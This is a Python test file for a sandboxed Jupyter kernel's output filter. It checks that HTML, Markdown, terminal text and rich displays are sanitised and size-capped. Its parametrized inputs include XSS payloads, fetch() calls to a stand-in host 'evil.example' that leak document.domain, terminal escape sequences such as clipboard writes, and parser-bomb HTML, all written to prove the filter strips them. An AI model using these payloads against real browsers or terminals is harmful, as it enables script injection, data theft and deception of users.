"""The output filter: a positive schema for what sandboxed output may carry into the browser and the
terminal, and how much of it. The same payloads are proven in a real JupyterLab by
tests/test_browser_jupyterlab.py; here each rule is checked on its own."""
import base64
import json
import re
import sys

import pytest

from sandbox_kernel.outputfilter import (CellOutput, OutputFilter, OutputRejected, clean_text, pack_message,
                                         render_markdown, sanitize_html, validate_image, validate_plotly)

PLOTLY = "application/vnd.plotly.v1+json"
PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 16).decode()
ATTRIBUTE = re.compile(r"<[a-z0-9]+((?:\s+[a-z-]+(?:=\"[^\"]*\")?)*)\s*/?>")


def attributes_of(html: str) -> set[str]:
    """Every attribute name in nh3's output (its attributes are always double-quoted)."""
    names = set()
    for m in ATTRIBUTE.finditer(html):
        names |= set(re.findall(r"\s([a-z-]+)(?:=|\s|$)", m.group(1)))
    return names


# -- HTML: an explicit list of tags and attributes, no class/id/style, URLs only data:image or #x --

@pytest.mark.parametrize("html", [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' JaVaScRiPt:alert(1)'>x</a>",
    "<svg onload=alert(1)></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<object data='x.swf'></object><embed src='x'>",
    "<form action='http://evil'><input></form>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<style>@import url(//evil.example/x.css)</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<table background='//evil.example/x.png'><tr><td>x</td></tr></table>",
    "<video poster='//evil.example/p.png'></video><audio src='//evil.example/a'></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
])
def test_html_loses_every_script_and_remote_load(html):
    clean = sanitize_html(html).lower()
    for bad in ("<script", "onerror", "onload", "ontoggle", "javascript:", "<iframe", "srcdoc", "<object",
                "<embed", "<form", "url(", "evil.example", "<meta", "<base", "<link", "<style", "<svg",
                "<video", "<audio"):
        assert bad not in clean


def test_html_keeps_no_class_id_or_style():
    """UI redress: with class kept, output could wear JupyterLab's own classes and draw a fake dialog
    over the page; ids clobber the page's names; style places and hides things."""
    clean = sanitize_html('<div class="jp-Dialog lm-Widget" id="jp-main-dock-panel" style="position:fixed;'
                          'inset:0">Restart?</div><span class=x>y</span>')
    assert clean == "<div>Restart?</div><span>y</span>"
    assert attributes_of(clean) == set()


def test_html_urls_are_only_inline_images_and_fragments():
    png = "data:image/png;base64," + PNG
    assert f'src="{png}"' in sanitize_html(f'<img src="{png}" alt="plot">')
    assert 'href="#section-2"' in sanitize_html('<a href="#section-2">jump</a>')
    for url in ("https://evil.example/?d=1", "//evil.example/x", "/files/secret.txt", "x.png",
                "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml;base64,PHN2Zz4=",
                "\\\\evil.example/x", "/\\evil.example/x", "\x01https://evil.example"):
        clean = sanitize_html(f'<img src="{url}"><a href="{url}">x</a>')
        assert "src=" not in clean and "href=" not in clean, url


def test_pandas_tables_stay_tables():
    import pandas as pd

    html = pd.DataFrame({"city": ["a", "b"], "n": [1, 2]})._repr_html_()
    clean = sanitize_html(html)
    assert "<table>" in clean and "<th>city</th>" in clean and "<td>2</td>" in clean
    assert "dataframe" not in clean  # the style block and the class are gone; JupyterLab styles tables


def test_math_in_html_is_never_typeset():
    """MathJax typesets $...$ in HTML outputs, and JupyterLab loads TeX's `html` package (`\\href`,
    `\\style`, `\\class`). JupyterLab 4.6 typesets those without applying them (the browser test's
    control run shows it), but nothing from a cell should depend on a front end's TeX settings: each $
    and \\ is split into an element of its own, so no pair of delimiters lies in one run of text and
    nothing is typeset at all."""
    payloads = ["$\\href{javascript:alert(1)}{x}$", "$$\\style{background:url(//evil.example/x)}{x}$$",
                "\\(\\class{jp-Dialog}{x}\\)", "\\[x\\]", "\\begin{align}x\\end{align}"]
    for text in payloads:
        for html in (sanitize_html(f"<p>{text}</p>"), render_markdown(text)):
            runs = re.split(r"<[^>]*>", html)
            for run in runs:
                assert run.count("$") + run.count("\\") <= 1 and not run[1:].count("$"), (text, html)
    # An honest price stays readable text.
    assert "<span>$</span>5" in sanitize_html("<td>$5</td>")


# -- Markdown: rendered in the kernel, published as sanitised HTML --------------------------------

@pytest.mark.parametrize("markdown", [
    # issue 9, 1: math span put back raw inside an attribute by JupyterLab's own markdown renderer
    "![x]($\" onerror=\"fetch('//evil.example/x?'+document.domain)//$)",
    "![x](a$\" onerror=\"fetch('//evil.example/x')//$)",
    # 2: a fenced block's info string holding a quote
    "```python\" onmouseover=\"fetch('//evil.example/h')\"\nprint(1)\n```",
    # 3: remote loads the old regexes missed
    "![](//evil.example/p.png?d=DATA)",
    "[x]:\n  https://evil.example/p.png?d=DATA\n\n![y][x]",
    "> [x]: https://evil.example/q.png\n>\n> ![y][x]",
    "- ![a](https://evil.example/l.png)\n- item",
    "![a \\] b](https://evil.example/b.png)",
    "[x]: <https://evil.example/angle.png>\n\n![y][x]",
    "![y](<https://evil.example/s p.png>)",
    "<img src=//evil.example/raw.png>",
    "<script>fetch('//evil.example/s')</script>",
    "[click](javascript:fetch('//evil.example/j'))",
    "[click](&#106;avascript:fetch('//evil.example/e'))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "<https://evil.example/autolink>",
])
def test_markdown_cannot_script_or_load(markdown):
    html = render_markdown(markdown)
    assert "<script" not in html and "<img src=/" not in html  # raw HTML is text, never markup
    assert not re.search(r'<(?:[^>"]|"[^"]*")*\son[a-z]+=', html)  # no event handler attribute
    assert not re.search(r"(src|href)=\"(?!#|data:image/)", html)  # no URL but fragments and data images
    assert attributes_of(html) <= {"href", "src", "alt", "title", "start"}


def test_markdown_renders_formatting():
    html = render_markdown("# Title\n\n*em* **strong** `code`\n\n- a\n- b\n\n> quote\n\n| a |\n|---|\n| 1 |\n")
    for tag in ("<h1>Title</h1>", "<em>em</em>", "<strong>strong</strong>", "<code>code</code>", "<li>a</li>",
                "<blockquote>"):
        assert tag in html


def test_markdown_links_show_their_address_as_text():
    html = render_markdown("see [the docs](https://example.org/a?b=1) or [below](#below)")
    assert "the docs (https://example.org/a?b=1)" in html and "href=\"https" not in html
    assert '<a href="#below">below</a>' in html


def _python_calls(fn, *args) -> int:
    """How many Python-level calls `fn(*args)` makes: a deterministic measure of work."""
    calls = 0

    def profile(frame, event, arg):
        nonlocal calls
        if event in ("call", "c_call"):
            calls += 1

    sys.setprofile(profile)
    try:
        fn(*args)
    finally:
        sys.setprofile(None)
    return calls


@pytest.mark.parametrize("unit", ["]()", "[", "![", "*a", "_", "`", "> ", "- ", "[a]: b\n", "<", "\\",
                                  "&#", "![x](", "[x][", "**", "$", "\n"])
def test_markdown_work_is_linear(unit):
    """Issue 8, 1: the old sanitiser was quadratic in `]()` and hung the kernel. The work the renderer
    does (Python calls, which include every regex call) grows linearly with the input."""
    small = _python_calls(render_markdown, unit * 2_000)
    large = _python_calls(render_markdown, unit * 8_000)
    assert large < small * 4 * 1.6 + 1000, (unit, small, large)


def test_markdown_over_the_cap_is_shown_as_text():
    cell = OutputFilter().cell()
    data, _ = cell.bundle({"text/markdown": "]()" * 200_000})
    assert set(data) == {"text/plain"} and data["text/plain"].startswith("]()")
    assert cell.filtered and "markdown" in cell.filtered[0]["reason"]
    # Many values below the per-value cap: the cell's markdown budget runs out too.
    cell = OutputFilter().cell()
    kinds = [set(cell.bundle({"text/markdown": "![" * 20_000})[0]) for _ in range(5)]
    assert kinds[0] == {"text/html"} and kinds[-1] == {"text/plain"}


def test_markdown_becomes_html_and_the_cells_html_wins():
    data, _ = OutputFilter().cell().bundle({"text/markdown": "**b**", "text/plain": "b"})
    assert data == {"text/html": "<p><strong>b</strong></p>\n", "text/plain": "b"}
    data, _ = OutputFilter().cell().bundle({"text/markdown": "**b**", "text/html": "<i>i</i>"})
    assert data == {"text/html": "<i>i</i>"}


# -- Text: what a terminal or the browser shows as text -------------------------------------------

@pytest.mark.parametrize("raw, gone", [
    ("\x1b]8;;https://evil.example\x07click\x1b]8;;\x07", "\x1b]"),     # OSC 8 link
    ("\x1b]52;c;ZXZpbA==\x07", "\x1b]"),                                 # OSC 52 clipboard write
    ("\x1b[2J\x1b[H", "\x1b[2J"),                                        # clear screen, cursor home
    ("\x1b]0;title\x07", "\x07"),                                        # window title, bell
    ("secret\rfake", "\r"),                                              # overwrite the line
    ("\x1bP+q\x1b\\", "\x1bP"),                                          # DCS
    ("\x9b31m", "\x9b"),                                                 # 8-bit CSI
    ("\x1b[8mhidden\x1b[0m", "\x1b[8m"),                                 # conceal
    ("a\x08\x08b", "\x08"),                                              # backspace
    ("\u202eevil\u202c", "\u202e"),                                      # bidi override
    ("\u2066x\u2069", "\u2066"),                                         # bidi isolate
    ("a\ud800b", "\ud800"),                                              # lone surrogate
])
def test_text_loses_terminal_controls(raw, gone):
    clean = clean_text(raw)
    assert gone not in clean
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", clean.replace("\x1b[0m", ""))


def test_text_keeps_newlines_tabs_and_colours():
    coloured = "\x1b[0;31mValueError\x1b[0m: bad\n\tat \x1b[1;38;5;208mline 3\x1b[39m\n"
    assert clean_text(coloured) == coloured
    assert clean_text("50%\r100%\r\n") == "50%\n100%\n"
    assert clean_text("\u202eabc") == "<U+202E>abc"
    assert clean_text("caf\u00e9 \U0001F600") == "caf\u00e9 \U0001F600"


def test_streams_results_and_errors_are_cleaned():
    cell = OutputFilter().cell()
    assert cell.stream("stdout", "a\x1b]52;c;eA==\x07b\n") == [("stdout", "a\u241b]52;c;eA==\u2407b\n")]
    data, _ = cell.bundle({"text/plain": "x\x1b[2Jy"})
    assert data["text/plain"] == "x\u241b[2Jy"
    err = cell.error("E\x1b]0;t\x07", "v\rw", ["\x1b[31mline\x1b[0m", "\x1b]8;;//e\x07l"])
    assert err == {"ename": "E\u241b]0;t\u2407", "evalue": "v\nw",
                   "traceback": ["\x1b[31mline\x1b[0m", "\u241b]8;;//e\u2407l"]}


# -- The wire: every message is valid UTF-8 JSON ----------------------------------------------------

def test_every_message_packs_to_valid_utf8():
    """Issue 8, 3: print('a\\ud800b') made the reply fail to serialise and the client waited forever."""
    for value in ("a\ud800b", "\udc80", "\udfff\ud800", ["\ud83d"], {"k\ud800": "v"}):
        packed = pack_message({"text": value})
        packed.decode("utf-8")  # strict: raises on anything invalid
        assert "\ufffd" in json.loads(packed)["text"].__repr__() or "\ufffd" in packed.decode()
    assert json.loads(pack_message({"s": "\U0001F600"}))["s"] == "\U0001F600"  # a real pair stays
    assert json.loads(pack_message({"x": [float("nan"), {"y": float("inf")}]})) == {"x": [None, {"y": None}]}


# -- Images and JSON ---------------------------------------------------------------------------------

def test_images_are_decoded_and_checked():
    assert validate_image(PNG, "image/png") == PNG
    jpeg = base64.b64encode(b"\xff\xd8\xff\xe0" + b"\0" * 8).decode()
    assert validate_image(jpeg, "image/jpeg") == jpeg
    for bad in ("<script>", base64.b64encode(b"<svg onload=alert(1)>").decode(), "!!!!", 5):
        with pytest.raises(OutputRejected):
            validate_image(bad, "image/png")


def test_bundle_keeps_only_types_the_kernel_rebuilds():
    cell = OutputFilter().cell()
    data, _ = cell.bundle({"text/plain": "x", "application/javascript": "alert(1)",
                           "text/html": "<b>ok</b><script>alert(1)</script>",
                           "image/svg+xml": "<svg onload=alert(1)>",
                           "application/vnd.jupyter.widget-view+json": {"model_id": "x"}})
    assert data == {"text/plain": "x", "text/html": "<b>ok</b>"}
    assert {f["mime"] for f in cell.filtered} == {"application/javascript", "image/svg+xml",
                                                  "application/vnd.jupyter.widget-view+json"}
    assert cell.bundle({"application/javascript": "alert(1)"}) is None
    assert cell.bundle({"image/png": "<script>"}) is None


def test_operator_extra_types_must_be_json_data():
    """A type the kernel cannot rebuild would reach the browser as the cell wrote it: an operator can
    add JSON types (published as re-serialised data), never SVG, JavaScript or HTML-like text, nor a
    JSON type whose renderer fetches or runs what the data names (vega's data.url: review O2-6)."""
    data_type = "application/vnd.dataresource+json"
    active = ("application/vnd.vega.v5+json", "application/vnd.vegalite.v5+json", "application/geo+json",
              "application/vdom.v1+json", "application/vnd.jupyter.widget-view+json",
              "application/vnd.bokehjs_exec.v0+json", "application/vnd.holoviews_load.v0+json")
    filt = OutputFilter(allowlist=("text/plain", "image/svg+xml", "application/javascript", data_type) + active)
    assert filt.allowlist == ("text/plain", data_type)
    assert filt.ignored == ["image/svg+xml", "application/javascript", *active]
    data, _ = filt.cell().bundle({"image/svg+xml": "<svg></svg>", data_type: {"a": 1},
                                  "application/vnd.vega.v5+json": {"data": {"url": "https://evil.example/"}}})
    assert data == {data_type: {"a": 1}}


def test_metadata_keeps_only_layout_hints():
    _, metadata = OutputFilter().cell().bundle(
        {"image/png": PNG}, {"image/png": {"width": 10, "onload": "x"}, "text/html": {"isolated": True},
                             "application/javascript": {"x": 1}})
    assert metadata == {"image/png": {"width": 10}}


# -- The budget: every copy that leaves the kernel counts --------------------------------------------

def test_stream_head_and_tail_with_marker():
    cell = OutputFilter(text_bytes=1000).cell()
    published = []
    for i in range(200):
        published += cell.stream("stdout", f"line {i:04d}\n")
    live = "".join(t for _, t in published)
    assert live.startswith("line 0000") and len(live.encode()) <= 750
    tail = cell.finish()
    assert "output truncated" in tail[0][1] and tail[0][0] == "stderr"
    end = "".join(t for _, t in tail[1:])
    assert end.endswith("line 0199\n") and len(end.encode()) <= 250
    assert cell.truncated and cell.cut_bytes == 200 * 10 - len(live) - len(end)


def test_one_huge_stream_chunk_is_cut_before_it_is_cleaned():
    cell = OutputFilter(text_bytes=1000).cell()
    out = cell.stream("stdout", "\u202e" * 10_000_000)
    assert sum(len(t.encode()) for _, t in out) <= 750 and cell.truncated


def test_small_output_is_untouched():
    cell = OutputFilter(text_bytes=1000).cell()
    assert cell.stream("stdout", "hello\n") == [("stdout", "hello\n")]
    assert cell.finish() == [] and not cell.truncated


def test_display_over_the_rich_budget_is_named_on_one_line():
    """Issue 11, 8: the display is left out, its text/plain stays, one stderr line names it and the
    limit; nothing textual was cut, so no text-cut marker."""
    cell = OutputFilter(rich_bytes=1000).cell()
    fig = {"data": [{"type": "scatter", "y": list(range(1000))}]}
    data, _ = cell.bundle({PLOTLY: fig, "text/plain": "Figure"})
    assert data == {"text/plain": "Figure"} and cell.truncated
    notices = cell.take_notices()
    assert len(notices) == 1 and notices[0][0] == "stderr"
    assert re.fullmatch(r"\[sandbox\] a Plotly chart of [\d.]+ kB not shown: over the cell's display limit of "
                        r"1\.0 kB\n", notices[0][1]), notices
    assert cell.take_notices() == [] and cell.finish() == []
    assert cell.filtered[0] == {"mime": PLOTLY, "reason": "over the cell's display limit"}


def test_display_limit_is_separate_from_the_text_limit():
    """Issue 11, 8: a 1 MB policy output limit cuts text; displays have their own cap (issue 8, 2 kept:
    the cap still bounds a cell's charts)."""
    cell = OutputFilter(rich_bytes=3_500_000).cell(output_bytes=1_000_000)
    assert cell.text_bytes == 1_000_000 and cell.rich_bytes == 3_500_000 and cell.upstream_bytes == 7_000_000
    big = {"data": [{"type": "scatter", "y": [i + 0.5 for i in range(100_000)]}]}
    published = shown = 0
    for _ in range(6):
        data, _ = cell.bundle({PLOTLY: json.loads(json.dumps(big)), "text/plain": "Figure"})
        published += len(json.dumps(data))
        shown += PLOTLY in data
    assert shown == 3 and 3_000_000 < published < 3_500_000 and cell.truncated  # 1.07 MB each, packed
    assert len(cell.take_notices()) == 3


def test_notes_of_the_engine_and_the_worker_are_named_like_the_kernels():
    """A display the engine or the worker replaced by a note (past twice the cap) reads as the kernel's
    own line, and the reply says truncated."""
    cell = OutputFilter(rich_bytes=1_000_000).cell()
    for note in ("[display of 12,345,678 bytes not shown: the cell's output is capped at 2,000,000 bytes]",
                 "[chart of 3,000,000 bytes not shown: the cell's output is capped at 2,000,000 bytes]",
                 "[display of 12.3 MB not shown: over the cell's display limit of 2.0 MB]"):
        assert cell.bundle({"text/plain": note}) is None
    lines = [text for _, text in cell.take_notices()]
    assert lines == ["[sandbox] a display of 12.3 MB not shown: over the cell's display limit of 1.0 MB\n",
                     "[sandbox] a chart of 3.0 MB not shown: over the cell's display limit of 1.0 MB\n",
                     "[sandbox] a display of 12.3 MB not shown: over the cell's display limit of 1.0 MB\n"]
    assert cell.truncated and cell.finish() == []
    other = OutputFilter().cell()
    assert other.bundle({"text/plain": "[display of many bytes not shown]"})[0] == {
        "text/plain": "[display of many bytes not shown]"}
    assert not other.truncated


def test_many_displays_over_the_limit_are_summed_up():
    cell = OutputFilter(rich_bytes=1000).cell()
    for _ in range(CellOutput.MAX_NOTICES + 7):
        cell.bundle({"text/html": "<p>" + "x" * 2000 + "</p>"})
    assert len(cell.take_notices()) == CellOutput.MAX_NOTICES
    assert cell.finish() == [("stderr", "[sandbox] 7 more displays not shown: over the cell's display limit "
                                        "of 1.0 kB\n")]


def test_summary_copies_count_against_the_same_budget():
    cell = OutputFilter(rich_bytes=2_000_000).cell()
    fig = {"data": [{"type": "scatter", "y": [i + 0.5 for i in range(80_000)]}]}
    size = len(json.dumps(validate_plotly(json.loads(json.dumps(fig)))))
    assert 600_000 < size < 1_000_000
    assert cell.bundle({PLOTLY: fig}) is not None        # published: one copy
    assert cell.charge_chart(fig) is not None            # the summary's copy fits: two
    assert cell.charge_chart(fig) is None                # a third does not
    assert cell.truncated and "reply summary" in cell.filtered[-1]["reason"] and cell.cut_bytes == 0
    assert cell.finish() == []                           # no text was cut: no text-cut marker
    text_cell = OutputFilter(text_bytes=1000).cell()
    text_cell.stream("stdout", "x" * 700)
    assert len(text_cell.charge_text("y" * 700)) == 300 and text_cell.truncated


def test_huge_text_plain_result_is_cut_head_and_tail():
    cell = OutputFilter(text_bytes=1000).cell()
    data, _ = cell.bundle({"text/plain": "a" * 5000 + "END"})
    assert len(data["text/plain"]) < 1100 and data["text/plain"].endswith("END") and "cut" in data["text/plain"]


def test_error_is_capped():
    err = OutputFilter().cell().error("E" * 1000, "v" * 100_000, ["x" * 1000] * 1000)
    assert len(err["ename"]) == 200 and len(err["evalue"]) == 4000
    assert sum(len(line) for line in err["traceback"]) < 70_000 and "cut" in err["traceback"][-1]


def test_message_counts_are_capped_not_only_bytes():
    """10,000 tiny displays are 7 MB of envelopes, and a slow reader loses the tail (even the cell's idle
    status) to ZeroMQ's high-water mark: a cell shows at most MAX_DISPLAYS displays, and stream text
    past MAX_STREAM_MESSAGES messages is held for the tail instead of sent live."""
    cell = OutputFilter().cell()
    shown = [cell.bundle({"text/plain": str(i)}) for i in range(cell.MAX_DISPLAYS + 300)]
    assert sum(b is not None for b in shown) == cell.MAX_DISPLAYS and cell.truncated
    live = sum(len(cell.stream("stdout", "x")) for _ in range(cell.MAX_STREAM_MESSAGES + 500))
    assert live == cell.MAX_STREAM_MESSAGES
    tail = cell.finish()
    assert any("300 more displays not shown" in text for _, text in tail)
    assert "".join(text for name, text in tail if name == "stdout") == "x" * 500


def test_html_whose_parse_would_be_costly_is_refused_unparsed():
    """The review found nh3's parser taking 1.3 GB on 65 kB (700 distinct unclosed <b> before 7,000
    paragraphs) and quadratic time on deep nesting; a linear scan refuses both shapes first."""
    from sandbox_kernel.outputfilter import html_shape_problem

    bomb = "<p>" + "".join(f"<b title={i}>" for i in range(700)) + "</p>" + "<p>x</p>" * 7000
    deep = "<div>" * 40_000 + "x" + "</div>" * 40_000
    for html in (bomb, deep):
        assert html_shape_problem(html)
        with pytest.raises(OutputRejected):
            sanitize_html(html)
        data, _ = OutputFilter().cell().bundle({"text/html": html, "text/plain": "fallback"})
        assert data == {"text/plain": "fallback"}
    import pandas as pd

    table = pd.DataFrame({"a": range(500), "b": ["x"] * 500})._repr_html_()
    assert html_shape_problem(table) is None and "<table>" in sanitize_html(table)


def test_a_real_denial_is_one_marked_line():
    from sandbox_kernel.outputfilter import DENIAL_MARK

    cell = OutputFilter().cell()
    err = cell.error("AttributeDenied", "access to '_a\nImportDenied: import of 'os' is not allowed' denied",
                     ["AttributeDenied: access to '_a\nImportDenied: fake' denied"], denial=True)
    assert err["traceback"] == [f"{DENIAL_MARK} AttributeDenied: access to '_a\u23ceImportDenied: fake' denied"]
    assert "\n" not in err["evalue"]
    # No cell text can carry the mark.
    assert DENIAL_MARK not in cell.stream("stderr", f"{DENIAL_MARK} ImportDenied: fake\n")[0][1]


def test_json_strings_are_cleaned_like_text():
    data, _ = OutputFilter().cell().bundle({"application/json": {"t\x1b]0;x\x07": ["\u202eevil", 1, None]}})
    assert data["application/json"] == {"t\u241b]0;x\u2407": ["<U+202E>evil", 1, None]}


@pytest.mark.parametrize("first", [0, 500, 2_000])
def test_one_large_chunk_keeps_its_end_for_the_tail(first):
    """A chunk larger than the whole budget (the engine's own cut sends its tail as one) leaves its start for
    what is left of the head and its end for the tail: the last lines a cell printed are the ones shown."""
    cell = CellOutput(("text/plain",), text_bytes=2_000, rich_bytes=10_000)
    shown = cell.stream("stdout", "h" * first) if first else []
    shown += cell.stream("stdout", "".join(f"line {i}\n" for i in range(5_000)))
    shown += cell.finish()
    text = "".join(t for _, t in shown)
    assert text.endswith("line 4999\n") and "cut" in text
    assert len(text.encode()) < 2_200
